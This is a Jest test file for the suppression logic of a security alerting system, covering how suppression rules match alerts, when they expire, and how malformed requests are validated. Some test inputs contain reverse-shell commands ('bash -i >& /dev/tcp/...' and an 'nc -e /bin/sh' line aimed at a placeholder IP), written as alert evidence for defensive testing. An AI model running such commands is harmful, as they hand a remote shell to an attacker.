import { alertOf, suppressionOf as sample } from '../store/sample-rows';
import { fits, makeSuppression, suppressionOf } from './suppress';

const alert = alertOf({ entities: { host: 'build-1', user: 'ana', path: '/home/ana/lab/x.sh' } });
const request = {
  match: { detector: 'reverse-shell', host: 'build-1' },
  owner: 'ana',
  reason: 'The lab shows it each week.',
  expiresAt: 10_000,
};

test('a suppression that holds and fits is found', () => {
  const made = makeSuppression(request, 'default', 1_000);
  expect(made).toMatchObject({ ...request, tenant: 'default', createdAt: 1_000, hits: 0 });
  expect(suppressionOf(alert, [made], 9_999)?.id).toBe(made.id);
  expect(suppressionOf(alert, [made], 10_000)).toBeUndefined();
  expect(suppressionOf(alert, [{ ...made, revokedAt: 2_000 }], 3_000)).toBeUndefined();
  expect(suppressionOf({ ...alert, tenant: 'other' }, [made], 3_000)).toBeUndefined();
  expect(suppressionOf({ ...alert, entities: {} }, [made], 3_000)).toBeUndefined();
});

test.each([
  [{ detector: 'reverse-shell', path: '/home/ana/lab/*' }, true],
  [{ detector: 'reverse-shell', path: '/home/ana/lab' }, false],
  [{ detector: 'reverse-shell', user: 'ben' }, false],
  [{ dialect: 'claude-code', technique: 'T1059.004' }, true],
  [{ dialect: 'claude-code', technique: 'T1059' }, false],
  [{ host: 'build-1', excerpt: 'bash -i >& /dev/tcp/*' }, true],
])('%j fits: %s', (match, expected) => {
  expect(fits(alert, match)).toBe(expected);
});

test('an alert that shows something else beside what was looked at is seen', () => {
  const more = { ...alert.evidence[0]!, eventId: 'e2', excerpt: 'nc -e /bin/sh 203.0.113.9 4444' };
  const match = { host: 'build-1', excerpt: 'bash -i >& /dev/tcp/*' };
  expect(fits({ ...alert, evidence: [...alert.evidence, more] }, match)).toBe(false);
});

test.each(['honeytoken', 'value-link', 'tampering'] as const)('nothing hides %s', (fact) => {
  const grave = { ...alert, facts: [...alert.facts, fact] };
  expect(suppressionOf(grave, [sample({ expiresAt: 1e12 })], 1)).toBeUndefined();
});

test.each([
  [{ match: { detector: 'x' } }, 'match: at least two'],
  [{ match: null }, 'match: an object'],
  [{ match: { detector: 'x', colour: 'red' } }, 'match.colour: no such field'],
  [{ match: { detector: 'x', host: '' } }, 'match.host: a text of 1 to 500'],
  [{ match: { detector: 'x', host: 7 } }, 'match.host: a text of 1 to 500'],
  [{ match: { detector: '*', host: 'ab*' } }, 'match.detector: at least three'],
  [{ match: { detector: 'xyz', host: 'ab*' } }, 'match.host: at least three'],
  [{ owner: ' ' }, 'owner: required'],
  [{ reason: undefined }, 'reason: required'],
  [{ expiresAt: undefined }, 'expiresAt: required'],
  [{ expiresAt: 1_000 }, 'expiresAt: required'],
  [{ expiresAt: 1_000 + 367 * 24 * 3_600_000 }, 'expiresAt: required'],
])('%j is refused', (parts, why) => {
  expect(() => makeSuppression({ ...request, ...parts } as never, 'default', 1_000)).toThrow(why);
});
